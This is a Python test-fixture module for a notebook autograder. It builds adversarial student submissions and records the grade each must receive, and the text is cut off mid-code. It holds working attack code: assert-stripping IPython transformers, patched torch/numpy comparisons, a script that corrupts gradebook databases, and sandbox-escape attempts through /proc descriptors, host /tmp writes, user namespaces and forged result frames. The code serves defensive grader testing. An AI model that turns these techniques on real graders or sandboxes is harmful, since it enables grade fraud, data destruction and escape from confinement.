"""The red-team class: submissions that attack the grader or break it, each with the grade it must get.

``build(course, inbox, paths)`` lays the class out for one chapter (chapter 2 by default: it has a
banned built-in) and returns the expected outcome of each case. ``tests/test_redteam.py`` grades it with
``grader autograde`` and asserts every outcome; ``python -m grader.dev.bench --redteam`` also grades it with
plain ``nbgrader autograde`` and prints both columns.

*Wrong* means every exercise holds a realistic mistake (each exercise's first wrong variant), so a case
that earns any point fooled the grader. *Correct* means every exercise holds its ``__correct`` variant,
so a case that loses a point was punished for a harmless extra.
"""

from __future__ import annotations

import copy
import hashlib
import os
import textwrap
from dataclasses import dataclass
from pathlib import Path

import nbformat

from ..cells import exercises, nbgrader_meta
from ..course import Chapter, Course
from . import samples


@dataclass
class Expect:
    score: float | None = None  # None: failed at intake
    status: str = "graded"  # graded | flagged | failed
    reason: str = ""  # a piece of the recorded reason
    about: str = ""  # what the case is, for tables
    open: str = ""  # a known gap: why the grader does not get this case right yet (tested as such)


def _insert_after_setup(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    first = next(i for i, c in enumerate(nb.cells) if c.cell_type == "code")
    nb.cells.insert(first + 1, nbformat.v4.new_code_cell(source))
    return nb


def _append(nb: nbformat.NotebookNode, source: str) -> nbformat.NotebookNode:
    nb = copy.deepcopy(nb)
    nb.cells.append(nbformat.v4.new_code_cell(source))
    return nb


def _test_cells(nb):
    return [c for c in nb.cells if nbgrader_meta(c).get("grade")]


ATTACKS = {
    "input_transformer": (
        "ip = get_ipython()\n"
        "ip.input_transformers_post.append(\n"
        "    lambda lines: [l.replace('assert ', 'pass  # ') for l in lines])\n"),
    "ast_transformer": (
        "import ast\n"
        "class _NoAsserts(ast.NodeTransformer):\n"
        "    def visit_Assert(self, node):\n"
        "        return ast.Pass()\n"
        "get_ipython().ast_transformers.append(_NoAsserts())\n"),
    "patch_allclose": (
        "import numpy, torch, torch.testing\n"
        "numpy.allclose = lambda *a, **k: True\n"
        "numpy.testing.assert_allclose = lambda *a, **k: None\n"
        "torch.allclose = lambda *a, **k: True\n"
        "torch.Tensor.allclose = lambda *a, **k: True\n"
        "torch.testing.assert_close = lambda *a, **k: None\n"
        "torch.equal = lambda *a, **k: True\n"),
    "custom_exc": (
        "get_ipython().set_custom_exc((BaseException,), lambda *a, **k: None)\n"),
    "showtraceback": (
        "ip = get_ipython()\n"
        "ip.showtraceback = lambda *a, **k: None\n"
        "ip.showsyntaxerror = lambda *a, **k: None\n"),
    "write_gradebook": (
        "import glob, os, sqlite3\n"
        "for path in glob.glob('{workdir}/**/*.db', recursive=True) + ['{workdir}/gradebook.db']:\n"
        "    try:\n"
        "        db = sqlite3.connect(path)\n"
        "        db.execute('UPDATE grade SET auto_score = 1000')\n"
        "        db.commit()\n"
        "    except Exception:\n"
        "        pass\n"
        "    try:\n"
        "        open(path, 'wb').write(b'gone')\n"
        "    except Exception:\n"
        "        pass\n"),
    "sense_environment": (
        "import os, sys\n"
        "_signals = [k for k in os.environ if any(w in k.upper() for w in\n"
        "            ('NBGRADER', 'GRADER', 'AUTOGRAD', 'SANDBOX', 'COURSE', 'PYTEST', 'CI'))]\n"
        "_graded = bool(_signals) or 'nbgrader' in ' '.join(sys.argv)\n"),
}


def _read_hidden(root: Path, ch: Chapter) -> str:
    return (
        "import glob, importlib, sys\n"
        f"sys.path[:0] = [{str(root)!r}]\n"
        "_found = {}\n"
        f"for path in glob.glob({str(root)!r} + '/**/*.ipynb', recursive=True) + "
        f"glob.glob({str(root)!r} + '/solutions/**/*.py', recursive=True):\n"
        "    try:\n"
        "        _found[path] = open(path).read()\n"
        "    except Exception:\n"
        "        pass\n"
        "try:\n"
        f"    _reference = importlib.import_module('solutions.{ch.slug}')\n"
        "except Exception:\n"
        "    _reference = None\n")


def _steal(names: list[str]) -> str:
    """Append to each solution: use the reference when the attack could import it."""
    return "".join(f"\nif _reference is not None:\n    {n} = getattr(_reference, {n!r})\n" for n in names)


def build(course: Course, inbox: Path, *, chapter: str = "qkv", workdir: Path | None = None,
          other: Chapter | None = None, host: Path | None = None) -> dict[str, Expect]:
    """Lay out the red-team class under ``inbox`` (one student per case); return the expectations.

    The gradebook attack writes to every database under ``workdir`` (and ``workdir`` itself should be a
    scratch folder): graded by plain nbgrader, which runs it unconfined, it really does destroy them.
    ``host`` (a scratch folder anyone may write, holding ``canary.txt``) is what the escape attacks try
    to reach and change; see :func:`host_traces` for what must stay unchanged.
    """
    ch = course.chapter(chapter)
    released = samples.released(course, ch)
    variants = samples.student_code(course, ch)
    points = samples.exercise_points(released)
    full = sum(points.values())
    correct = {ex: v["correct"] for ex, v in variants.items()}
    wrong = {ex: v[sorted(n for n in v if not samples.is_correct(n))[0]] for ex, v in variants.items()}
    good, bad = samples.fill(released, correct), samples.fill(released, wrong)
    expect: dict[str, Expect] = {}

    def put(name: str, nb=None, *, about: str, score=None, status="graded", reason="", raw=None, file=None,
            extra: dict[str, bytes] | None = None) -> None:
        folder = samples.hand_in(inbox, name, ch, nb, name=file, raw=raw).parent
        for fname, data in (extra or {}).items():
            (folder / fname).write_bytes(data)
        expect[name] = Expect(score, status, reason, about)

    # wrong answers with tricks: nothing may be earned
    put("rt-wrong-plain", bad, about="wrong answers, no tricks", score=0)
    for attack in ("input_transformer", "ast_transformer", "patch_allclose", "custom_exc", "showtraceback"):
        # those that reach IPython's shell are flagged as well (its get_ipython runs code by string)
        shell = "get_ipython" in ATTACKS[attack]
        put(f"rt-wrong-{attack.replace('_', '-')}", _insert_after_setup(bad, ATTACKS[attack]),
            about=f"wrong answers + {attack.replace('_', ' ')}", score=0, status="flagged" if shell else "graded",
            reason="uses get_ipython" if shell else "")
    if workdir is None:
        raise ValueError("the red team needs a scratch workdir: its gradebook attack is real")
    attack = ATTACKS["write_gradebook"].format(workdir=workdir)
    put("rt-wrong-gradebook", _insert_after_setup(bad, attack),
        about="wrong answers + writes to every gradebook it can find", score=0, status="flagged",
        reason="sqlite3")
    names = list(correct)
    stolen = {ex: wrong[ex] + _steal([ex]) for ex in names}
    put("rt-wrong-read-hidden", _insert_after_setup(samples.fill(released, stolen), _read_hidden(course.root, ch)),
        about="wrong answers + reads the source, the solutions and hidden tests from disk", score=0,
        status="flagged", reason="internals")
    sensing = {ex: correct[ex] + f"\nif _graded:\n    {ex} = None\n" for ex in names}
    put("rt-correct-sense-env", _insert_after_setup(samples.fill(released, sensing), ATTACKS["sense_environment"]),
        about="correct answers that sabotage themselves when the environment says 'grading'", score=full)
    put("rt-wrong-fake-modules", bad, about="wrong answers + numpy.py / torch.py beside the notebook", score=0,
        extra={"numpy.py": b"def allclose(*a, **k):\n    return True\n",
               "torch.py": b"raise SystemExit('shadowed')\n"})
    put("rt-correct-fake-modules", good, about="correct answers + numpy.py / torch.py beside the notebook",
        score=full, extra={"numpy.py": b"raise ImportError('shadowed')\n", "torch.py": b"raise ImportError('x')\n"})

    # lying return values
    order = [ex.name for ex in exercises(released)]
    first, last = order[0], order[-1]
    liar_eq = ("\nclass _AlwaysEqual:\n    def __eq__(self, other):\n        return True\n"
               "    def __getattr__(self, name):\n        return lambda *a, **k: self\n"
               f"_real_{first} = {first}\n"
               f"def {first}(*args, **kwargs):\n    return _AlwaysEqual()\n")
    put("rt-wrong-eq-always-true", samples.fill(released, {**wrong, first: correct[first] + liar_eq}),
        about="returns an object whose __eq__ is always True", score=0)
    liar_tf = ("\nimport torch as _torch\n"
               "class _Liar(_torch.Tensor):\n"
               "    @classmethod\n"
               "    def __torch_function__(cls, func, types, args=(), kwargs=None):\n"
               "        if func in (_torch.allclose, _torch.equal, _torch.Tensor.allclose, _torch.isclose,\n"
               "                    _torch.Tensor.__eq__, _torch.testing.assert_close):\n"
               "            return True\n"
               "        return super().__torch_function__(func, types, args, kwargs or {})\n"
               f"_real_{first} = {first}\n"
               f"def {first}(*args, **kwargs):\n"
               f"    out = _real_{first}(*args, **kwargs)\n"
               "    return [o.as_subclass(_Liar) for o in out] if isinstance(out, tuple) else out.as_subclass(_Liar)\n")
    put("rt-wrong-tensor-subclass", samples.fill(released, {**wrong, first: wrong[first] + liar_tf}),
        about="wrong answers returned as a Tensor subclass whose __torch_function__ lies", score=0)

    # an in-place softmax that hides what it did to its input behind a patched Tensor.detach
    hide_inplace = ("\nimport torch as _torch\n"
                    "_real_softmax, _real_detach, _clean = softmax, _torch.Tensor.detach, {}\n"
                    "def _detach(self):\n"
                    "    kept = _clean.get(id(self))\n"
                    "    return kept[1] if kept is not None and kept[0] is self else _real_detach(self)\n"
                    "_torch.Tensor.detach = _detach\n"
                    "def softmax(x, dim=-1):\n"
                    "    out = _real_softmax(x, dim)\n"
                    "    if isinstance(x, _torch.Tensor):\n"
                    "        _clean[id(x)] = (x, _real_detach(x).clone())\n"
                    "        x.zero_()  # the input overwritten, as an in-place softmax would\n"
                    "    return out\n")
    put("rt-wrong-detach-hides-inplace", samples.fill(released, {**correct, "softmax": correct["softmax"]
                                                                  + hide_inplace}),
        about="softmax overwrites its input and patches Tensor.detach to show the grader a clean copy",
        score=full - points["softmax"])

    # issue 27, classes 2 and 5: cells the reading once skipped, a banned family's other implementations
    forged = _insert_after_setup(good, "import gc  # a student's cell that says it is the course's")
    forged_cell = next(c for c in forged.cells if c.source.startswith("import gc"))
    forged_cell.metadata["nbgrader"] = {"locked": True, "solution": False, "grade": False, "grade_id": "given_x",
                                        "schema_version": 3}
    put("rt-correct-locked-cell", forged, about="correct answers + a cell of its own marked locked (run all the same)",
        score=full, status="flagged", reason="imports gc")
    put("rt-correct-magic-cell", _insert_after_setup(good, "%time import gc"),
        about="correct answers + a magic running code the reader once could not parse", score=full,
        status="flagged", reason="imports gc")
    private = ("\nimport torch as _torch\n"
               "def softmax(x, dim=-1):\n    return _torch._refs.softmax(x, dim)\n")
    put("rt-banned-private-softmax", samples.fill(released, {**correct, "softmax": correct["softmax"] + private}),
        about="softmax through torch._refs (a decomposition: no kernel to refuse), held for review", score=full,
        status="flagged", reason="uses private _torch._refs")
    fused = ("\nimport torch as _torch\n"
             "def softmax(x, dim=-1):\n"
             "    x = x.movedim(dim, -1)\n"
             "    shape = x.shape\n"
             "    eye = _torch.eye(shape[-1], dtype=x.dtype)[None, None]\n"
             "    q = x.reshape(1, 1, -1, shape[-1]) * shape[-1] ** 0.5\n"
             "    p = _torch.ops.aten._scaled_dot_product_flash_attention_for_cpu(q, eye, eye)[0]\n"
             "    return p.reshape(shape).movedim(-1, dim)\n")
    put("rt-banned-fused-softmax", samples.fill(released, {**correct, "softmax": correct["softmax"] + fused}),
        about="softmax through the fused attention kernel with identity keys and values",
        score=full - points["softmax"], status="flagged", reason="uses private _torch.ops.aten")

    # issue 27, class 8: a function that keeps every input it is given, and a later cell that prints them
    keep = ("\n_seen = []\n_real_softmax_keep = softmax\n"
            "def softmax(x, dim=-1):\n    _seen.append(x)\n    return _real_softmax_keep(x, dim)\n")
    show = ("print(LEAK_MARK, len(_seen), [t.flatten()[:4].tolist() for t in _seen[1:]])\n"
            "raise ValueError(f'{LEAK_MARK} {[t.flatten()[:4].tolist() for t in _seen[1:]]}')\n")
    put("rt-correct-leak-inputs", _append(samples.fill(released, {**correct, "softmax": correct["softmax"] + keep}),
                                          "LEAK_MARK = 'LEAKED-' + 'INPUTS'  # not in the source as one word\n" + show),
        about="correct answers; softmax keeps its inputs and a last cell prints them and raises with them",
        score=full)

    # tampering with the locked test cells
    edited = copy.deepcopy(bad)
    for cell in _test_cells(edited):
        cell.source = "pass  # nothing to see here"
    put("rt-wrong-edit-tests", edited, about="wrong answers + every test cell emptied", score=0)
    deleted = copy.deepcopy(bad)
    deleted.cells = [c for c in deleted.cells if not nbgrader_meta(c).get("grade")]
    put("rt-wrong-delete-tests", deleted, about="wrong answers + every test cell deleted", score=0,
        reason="restored")
    retyped = copy.deepcopy(bad)
    for cell in _test_cells(retyped):
        cell.metadata["nbgrader"]["points"] = 0
        cell.metadata["nbgrader"]["grade"] = False
        cell.metadata["nbgrader"]["grade_id"] = "renamed_" + cell.metadata["nbgrader"]["grade_id"]
    # un-graded, the test cells are the student's own cells and are read as such (the visible tests' getattr)
    put("rt-wrong-retype-tests", retyped, about="wrong answers + test cells un-graded and renamed", score=0,
        status="flagged", reason="getattr")
    inflated = copy.deepcopy(good)
    for cell in _test_cells(inflated):
        cell.metadata["nbgrader"]["points"] = 1000
    put("rt-correct-inflate-points", inflated, about="correct answers + test points set to 1000", score=full)

    # the given cells (setup, examples) are the course's: a submission that broke or deleted them loses nothing
    broken = copy.deepcopy(good)
    for cell in broken.cells:
        if cell.cell_type == "code" and not nbgrader_meta(cell):
            cell.source = "raise SystemExit('the given cells are mine now')"
    put("rt-correct-given-broken", broken, about="correct answers + every given cell replaced by an error",
        score=full, reason="given cell")
    # a student fills in the stubs and relies on the setup's imports: without the given cells they would fail
    leaning = {ex: "\n".join(line for line in src.splitlines() if not line.startswith(("import ", "from ")))
               for ex, src in correct.items()}
    gone = samples.fill(released, leaning)
    gone.cells = [c for c in gone.cells if c.cell_type != "code" or nbgrader_meta(c)]
    put("rt-correct-given-deleted", gone, about="correct answers relying on the setup's imports + every given "
        "cell deleted (the setup too)", score=full, reason="given cell")

    # correct answers with extras
    put("rt-correct-plain", good, about="correct answers", score=full)
    put("rt-correct-sys-exit",
        samples.fill(released, {**correct, first: correct[first] + "\nimport sys\nsys.exit(0)\n"}),
        about="correct answers + sys.exit() in a cell (IPython catches it)", score=full)
    put("rt-correct-warning", samples.fill(released, samples.with_warnings(correct)),
        about="correct answers that emit a UserWarning", score=full)
    put("rt-correct-output-flood",
        samples.fill(released, {**correct, first: correct[first]
                                + "\nfor _ in range(200_000):\n    print('spam ' * 20)\n"}),
        about="correct answers + 20 MB of printed output", score=full)
    put("rt-correct-memory-bomb",
        samples.fill(released, {**correct, first: correct[first] + (
            "\ndef _bomb():\n    hog = []\n    while True:\n        hog.append(bytearray(256 * 2**20))\n"
            "try:\n    _bomb()\nexcept MemoryError:\n    print('out of memory, carrying on')\n")}),
        about="correct answers + a memory bomb (stopped by the memory limit)", score=full)
    put("rt-correct-renamed", good, file="Copy of notebook (3).ipynb", about="correct answers, renamed notebook",
        score=full, reason="named Copy of notebook (3).ipynb")
    kernel = copy.deepcopy(good)
    kernel.metadata["kernelspec"] = {"name": "ir", "display_name": "R", "language": "R"}
    put("rt-correct-kernelspec", kernel, about="correct answers, R kernelspec", score=full)

    # correct answers with fatal extras: recorded, flagged, never fatal to the run
    put("rt-correct-os-exit",
        samples.fill(released, {**correct, first: correct[first] + "\nimport os\nos._exit(3)\n"}),
        about="correct answers + os._exit(3) in the first exercise", score=0, status="flagged",
        reason="exited with code 3")
    put("rt-correct-segfault",
        samples.fill(released, {**correct, first: correct[first] + "\nimport ctypes\nctypes.string_at(0)\n"}),
        # the audit hook refuses ctypes, so no segfault happens; the reading holds every test after the cell
        about="correct answers + a segmentation fault through ctypes (refused by the audit hook)", score=full,
        status="flagged", reason="ctypes")
    put("rt-correct-infinite-loop",
        samples.fill(released, {**correct, last: correct[last] + (
            "\nimport signal\nsignal.signal(signal.SIGINT, signal.SIG_IGN)\n"
            "signal.signal(signal.SIGTERM, signal.SIG_IGN)\nwhile True:\n    pass\n")}),
        about=f"correct answers + an infinite loop ignoring SIGINT/SIGTERM in the last exercise ({last}): "
              "the tests before it count", score=full - points[last], status="flagged", reason="longer than")
    late = _append(good, "import os\nos._exit(0)\n")
    put("rt-correct-late-exit", late, about="correct answers + os._exit(0) after the last test",
        score=full, status="flagged", reason="ended its own process")

    # banned built-in
    banned = [(ex, v) for ex, vs in variants.items() for v in vs if v.startswith("uses_")]
    if banned:
        ex, v = banned[0]
        put("rt-banned-builtin", samples.fill(released, {**correct, ex: variants[ex][v]}),
            about=f"{ex} through a banned built-in ({v})", score=full - points[ex])

    if host is not None:
        links, gaps = _escapes(course, ch, put, released, good, bad, correct, wrong, points, full, first, last,
                               variants, inbox, host)
        expect.update(links)
        for name, why in gaps.items():
            expect[name].open = why

    # broken input
    text = nbformat.writes(good)
    put("rt-corrupt-json", raw=text.encode()[: len(text) // 3], about="corrupt JSON", status="failed",
        reason="not valid JSON")
    put("rt-not-utf8", raw=b"\xff\xfe" + text.encode("utf-16-le"), about="UTF-16 file", status="failed",
        reason="not UTF-8")
    put("rt-empty-folder", about="empty chapter folder", status="failed", reason="no notebook")
    folder = inbox / "rt-no-notebook" / ch.id
    folder.mkdir(parents=True)
    (folder / "answers.py").write_text("print('I did it in a script')\n")
    expect["rt-no-notebook"] = Expect(None, "failed", "no notebook", "a folder with a script, no notebook")
    if other is not None:
        put("rt-other-chapter", samples.released(course, other), about=f"the notebook of {other.id}",
            status="failed", reason=f"notebook of {other.id}")
    return expect


MMAP_JACOBIAN = """
import mmap as _mmap
_softmax_vjp = softmax_vjp
def softmax_vjp(p, grad_p, dim=-1):
    jacobians = _mmap.mmap(-1, 128 << 20)  # 128 MiB of Jacobians, where no tensor meter or tracemalloc looks
    for i in range(0, len(jacobians), 4096):
        jacobians[i] = 1  # every page touched: resident
    jacobians.close()
    return _softmax_vjp(p, grad_p, dim)
"""


def _on_long_rows(setup: str, body: str) -> str:
    """Source that replaces ``softmax_vjp`` by ``body`` (indented, with ``p``, ``grad_p``, ``dim``; ``rows`` and ``g``
    the distribution and its gradient as one row each) on the long one-dimensional cases (4096 outcomes) and keeps
    the correct one elsewhere, after ``setup`` (imports, a thread); the body's answer is reshaped back to ``p``'s."""
    return (f"\n{setup}_softmax_vjp_correct = softmax_vjp\n"
            "def softmax_vjp(p, grad_p, dim=-1):\n"
            "    if p.dim() != 1 or p.shape[0] < 4096:\n"
            "        return _softmax_vjp_correct(p, grad_p, dim)\n"
            "    rows, g = p.reshape(1, -1), grad_p.reshape(1, -1)\n"
            "    return _rows_answer(rows, g).reshape(p.shape)\n"
            "def _rows_answer(rows, g):\n" + textwrap.indent(body, "    "))


#: Issue 27, class 4: the Jacobians built where the operator meter does not look. Each replaces chapter 3's
#: ``softmax_vjp`` by one that computes the (n, n) Jacobian of a distribution over 4096 outcomes (64 MiB in
#: float32, 128 MiB in float64) out of the meter's sight, then returns the right answer; the kernel's measure of
#: the case's window sees it.
THREAD_JACOBIAN = _on_long_rows("""import queue as _queue
import threading as _threading
_jobs, _done = _queue.Queue(), _queue.Queue()
def _jacobian_worker():  # started here, before any case: the case itself starts no thread
    while True:
        g, rows = _jobs.get()
        out = [(torch.diag(r) - torch.outer(r, r)) @ gr for r, gr in zip(rows.double(), g.double())]
        _done.put(torch.stack(out).to(rows.dtype))
_threading.Thread(target=_jacobian_worker, daemon=True).start()
""", """_jobs.put((g, rows))  # the Jacobians on a thread of its own, where no dispatch mode is pushed
return _done.get()
""")
MEMMAP_JACOBIAN = _on_long_rows("import numpy as np\n", """\
dtype = rows.dtype
rows, g = rows.float().numpy(), g.float().numpy()
out = np.empty_like(rows)
half = rows.shape[1] // 2  # 32 MiB of the Jacobian at a time (a file may not exceed 64 MiB here)
for i, (r, gr) in enumerate(zip(rows, g)):  # the Jacobian in a file under /tmp: neither meter sees it
    for top in (0, half):
        jac = np.memmap("jacobian.bin", dtype=np.float32, mode="w+", shape=(half, r.size))
        for k in range(half):  # a row at a time: no temporary tracemalloc would see
            np.multiply(r, -r[top + k], out=jac[k])
            jac[k, top + k] += r[top + k]
        out[i, top:top + half] = np.asarray(jac).dot(gr)  # no temporary the size of the block
        del jac
return torch.from_numpy(out).to(dtype)
""")
FORK_JACOBIAN = _on_long_rows("import os\nimport numpy as np\n", """\
dtype = rows.dtype
rows, g = rows.double().numpy(), g.double().numpy()
read_end, write_end = os.pipe()
if os.fork() == 0:  # the Jacobians in a child process: no meter of the parent's sees its memory
    jacs = [np.diag(r) - r[:, None] * r[None, :] for r in rows]
    out = np.stack([(j * gr[None, :]).sum(1) for j, gr in zip(jacs, g)])
    os.write(write_end, out.tobytes())
    os._exit(0)
os.close(write_end)
data = b""
while len(data) < rows.nbytes:
    data += os.read(read_end, rows.nbytes - len(data))
os.close(read_end)
os.wait()
return torch.from_numpy(np.frombuffer(data, dtype=np.float64).reshape(rows.shape).copy()).to(dtype)
""")
RESIZE_JACOBIAN = _on_long_rows("", """out = []
for r, gr in zip(rows, g):
    jac = torch.empty(0, dtype=rows.dtype)
    jac.resize_(r.numel(), r.numel())  # grown, then written with out=: no operator *creates* it
    torch.outer(r, r, out=jac)
    jac.neg_().diagonal().add_(r)
    out.append(jac @ gr)
return torch.stack(out)
""")


def build_memory(course: Course, inbox: Path) -> dict[str, Expect]:
    """The memory meters' cases (issue 27, classes 3 and 4), in chapter 3, whose ``softmax_vjp`` is bounded to
    about its input's size (a distribution over 4096 outcomes among its cases): correct answers, except that
    ``softmax_vjp`` first fills 128 MiB of anonymous ``mmap`` (class 3: only a peak-memory mark sees it; the
    sandbox once could not reset the process's), or builds the Jacobian it was told not to build where the
    operator meter does not look: on a thread started before the case, in a ``np.memmap`` file, in a forked
    process, in a tensor grown by ``resize_`` and written with ``out=`` (class 4). Each must lose
    ``softmax_vjp``'s points and nothing else."""
    ch = course.chapter("scaling")
    released = samples.released(course, ch)
    points = samples.exercise_points(released)
    correct = {ex: v["correct"] for ex, v in samples.student_code(course, ch).items()}
    lose = sum(points.values()) - points["softmax_vjp"]
    attacks = {
        # importing mmap is flagged for review too; the points are what the kernel's mark decides
        "rt-wrong-mmap-jacobian": (MMAP_JACOBIAN, "flagged", "imports mmap",
                                   "chapter 3: correct answers, but softmax_vjp first fills 128 MiB of mmap"),
        "rt-wrong-thread-jacobian": (THREAD_JACOBIAN, "graded", "",
                                     "chapter 3: softmax_vjp's Jacobian on a thread started before the case"),
        "rt-wrong-memmap-jacobian": (MEMMAP_JACOBIAN, "graded", "",
                                     "chapter 3: softmax_vjp's Jacobian in a np.memmap file under /tmp"),
        "rt-wrong-fork-jacobian": (FORK_JACOBIAN, "flagged", "uses os.fork",
                                   "chapter 3: softmax_vjp's Jacobian in a forked child process"),
        # the meter's socket closed by the notebook: its metered cases are not measured, so not passed (and
        # closing a descriptor is not among os's ordinary names: the later tests are held for review too)
        "rt-wrong-meter-closed": ("\nimport os\ntry:\n    os.close(4)\nexcept OSError:\n    pass\n", "flagged",
                                  "uses os.close",
                                  "chapter 3: correct answers; a cell closes descriptor 4 (the meter's socket)"),
        "rt-wrong-resize-jacobian": (RESIZE_JACOBIAN, "graded", "",
                                     "chapter 3: softmax_vjp's Jacobian in a tensor grown by resize_, "
                                     "written with out="),
    }
    expect = {}
    for name, (extra, status, reason, about) in attacks.items():
        code = {**correct, "softmax_vjp": correct["softmax_vjp"] + extra}
        samples.hand_in(inbox, name, ch, samples.fill(released, code))
        expect[name] = Expect(lose, status, reason, about)
    return expect


#: What the class-8 case prints beside the inputs it kept: it must appear in no feedback.
LEAK_MARK = "LEAKED-" + "INPUTS"


SHARED = ("/tmp", "/var/tmp", "/dev/shm", "/run/lock", "/run/lock/grader-sandbox")


def escape_name(host: Path) -> str:
    """The file name the escape attacks write under in the host's shared folders (one per red-team class)."""
    return "rt-escape-" + hashlib.sha256(str(host).encode()).hexdigest()[:12]


def escape_ipc_key(host: Path) -> int:
    """The SysV IPC key the namespace attack creates a shared-memory segment under (and leaves behind)."""
    return int(hashlib.sha256(f"ipc:{host}".encode()).hexdigest()[:7], 16)


def _host_segments(key: int) -> list[int]:
    """The ids of the host's SysV shared-memory segments with ``key`` (``/proc/sysvipc/shm``)."""
    try:
        rows = Path("/proc/sysvipc/shm").read_text().splitlines()[1:]
    except OSError:
        return []
    return [int(cols[1]) for cols in (r.split() for r in rows) if len(cols) > 1 and int(cols[0]) == key]


def host_traces(host: Path, remove: bool = False) -> list[str]:
    """What an escape would have left on the host: files named :func:`escape_name` in the shared folders,
    a SysV segment under :func:`escape_ipc_key`, a changed canary, anything new in ``host`` (``remove``:
    delete the files found in shared folders and the segment)."""
    found = []
    for shmid in _host_segments(escape_ipc_key(host)):
        found.append(f"SysV shared memory segment {shmid} (key {escape_ipc_key(host):#x})")
        if remove:
            import ctypes

            ctypes.CDLL(None).shmctl(shmid, 0, None)  # IPC_RMID
    for folder in SHARED:
        for p in Path(folder).glob(escape_name(host) + "*") if Path(folder).is_dir() else []:
            found.append(str(p))
            if remove:
                p.unlink(missing_ok=True)
    if (host / "canary.txt").read_text() != "canary\n":
        found.append(str(host / "canary.txt"))
    found += [str(p) for p in host.iterdir() if p.name != "canary.txt"]
    return found


def _escapes(course, ch, put, released, good, bad, correct, wrong, points, full, first, last, variants, inbox,
             host) -> tuple[dict[str, Expect], dict[str, str]]:
    """The attacks of issue 13, one class at a time (each beside the correct victim rt-correct-plain);
    returns the expectations of the cases that ``put`` cannot lay out (links where folders should be) and
    the known gaps (case: why it is not right yet)."""
    links: dict[str, Expect] = {}
    expect_open: dict[str, str] = {}
    root, slug = str(course.root), ch.slug
    ESCAPE = escape_name(host)
    steal = _steal(list(correct))
    # class 1: the host reached from inside (descriptors, paths, /proc, shared folders)
    fd_escape = (
        "import os, sys, importlib\n"
        "_reference = None\n"
        f"_targets = [{root!r} + '/solutions', {root!r}]\n"
        "for fd in range(3, 1024):\n"
        "    for up in ('', '/..', '/../..', '/../../..', '/../../../..'):\n"
        "        base = f'/proc/self/fd/{fd}' + up\n"
        "        for rel in ('', 'solutions', '../solutions'):\n"
        "            try:\n"
        "                if os.path.isfile(os.path.join(base, rel, '" + slug + ".py')):\n"
        "                    sys.path.insert(0, os.path.dirname(os.path.join(base, rel)))\n"
        "            except Exception:\n"
        "                pass\n"
        "    try:\n"
        "        os.fchdir(fd)\n"
        "        for _ in range(6):\n"
        "            os.chdir('..')\n"
        "            if os.path.isdir('solutions'):\n"
        "                sys.path.insert(0, os.getcwd())\n"
        "    except Exception:\n"
        "        pass\n"
        "sys.path[:0] = _targets\n"
        "for p in ('/proc/1/root', '/proc/1/cwd'):\n"
        f"    sys.path.insert(0, p + {root!r})\n"
        "try:\n"
        f"    _reference = importlib.import_module('solutions.{slug}')\n"
        "except Exception:\n"
        "    _reference = None\n"
        "os.chdir(os.path.expanduser('~')) if os.path.isdir(os.path.expanduser('~')) else None\n")
    put("rt-wrong-fd-escape", _insert_after_setup(samples.fill(released, {ex: wrong[ex] + steal for ex in correct}),
                                                  fd_escape),
        about="wrong answers + looks for the answer key through every inherited descriptor, /proc/1/root, "
              "the course's path", score=0, status="flagged", reason="internals")
    writes = (
        "import os, glob, socket\n"
        f"_paths = [{str(host / 'canary.txt')!r}, {str(host / ESCAPE)!r}, '/tmp/{ESCAPE}', '/var/tmp/{ESCAPE}',\n"
        f"          '/dev/shm/{ESCAPE}', '/run/lock/{ESCAPE}', '/run/lock/grader-sandbox/{ESCAPE}']\n"
        "for fd in range(3, 1024):\n"
        f"    _paths += [f'/proc/self/fd/{{fd}}/{ESCAPE}', f'/proc/self/fd/{{fd}}/../{ESCAPE}']\n"
        "for path in _paths:\n"
        "    try:\n"
        "        with open(path, 'w') as fh:\n"
        "            fh.write('escaped')\n"
        "    except Exception:\n"
        "        pass\n"
        "for path in glob.glob('/run/**/*.sock', recursive=True) + glob.glob('/tmp/**/.s.PGSQL*', recursive=True):\n"
        "    try:\n"
        "        s = socket.socket(socket.AF_UNIX); s.connect(path); s.close()\n"
        "    except Exception:\n"
        "        pass\n"
        "os.chdir(os.path.expanduser('~'))\n")
    put("rt-correct-host-writes", _insert_after_setup(good, writes),
        about="correct answers + writes to the host's /tmp, /var/tmp, /dev/shm, /run/lock, a canary, sockets",
        score=full, status="flagged", reason="held for review")
    # namespaces (issue 27, class 9): a user namespace made inside the sandbox (root of its own), and a SysV
    # segment left behind, which outlives the job in the host's IPC namespace. Each answer is broken when the
    # user namespace could be made, so the case keeps its points only where the sandbox refuses it.
    namespaces = (
        "import ctypes, os, subprocess\n"
        "_libc = ctypes.CDLL(None, use_errno=True)\n"
        "_pid = os.fork()\n"
        "if _pid == 0:\n"
        "    os._exit(0 if _libc.unshare(0x10000000) == 0 else 1)  # CLONE_NEWUSER, in a one-thread child\n"
        "_USERNS = os.waitstatus_to_exitcode(os.waitpid(_pid, 0)[1]) == 0\n"
        "try:\n"
        "    _USERNS = _USERNS or subprocess.run(['unshare', '-Ur', 'true'], capture_output=True,\n"
        "                                        timeout=30).returncode == 0\n"
        "except Exception:\n"
        "    pass\n"
        f"_libc.shmget({escape_ipc_key(host)}, 4096, 0o1000 | 0o600)  # IPC_CREAT, never removed\n")
    broken = "".join(f"\nif _USERNS:\n    {n} = None\n" for n in correct)
    put("rt-correct-namespaces", _insert_after_setup(samples.fill(released, {ex: correct[ex] + broken
                                                                             for ex in correct}), namespaces),
        about="correct answers, broken if a user namespace can be made; + a SysV segment left behind",
        score=full, status="flagged", reason="internals")
    # class 2: results forged by the process that ran the student's code
    forge = (
        "import os, sys, json, struct\n"
        "def _frame(h):\n"
        "    d = json.dumps({**h, 'blobs': []}).encode()\n"
        "    return struct.pack('>I', len(d)) + d\n"
        "for i in range(64):\n"
        "    try:\n"
        "        os.write(3, _frame({'t': 'cell', 'index': i, 'ok': True, 'output': '', 'error': '',\n"
        "                            'outcomes': []}))\n"
        "    except OSError:\n"
        "        pass\n"
        "_h = sys.modules.get('grader.grading.harness')\n"
        "if _h is not None:\n"
        "    _h._run_cell = lambda shell, source: (True, '', '')\n")
    put("rt-wrong-forged-frames", _insert_after_setup(bad, forge),
        about="wrong answers + forged result frames on the pipe, visible tests reported as passed", score=0,
        status="flagged", reason="results stream is malformed")
    # issue 27, class 1: the genuine frames relayed through a pipe of the notebook's, the bans edited out
    relay_start = ("import os as _os, threading as _threading\n"
                   "_real = _os.dup(3)\n"
                   "_r, _w = _os.pipe()\n"
                   "_os.dup2(_w, 3)\n"
                   "_os.close(_w)\n"
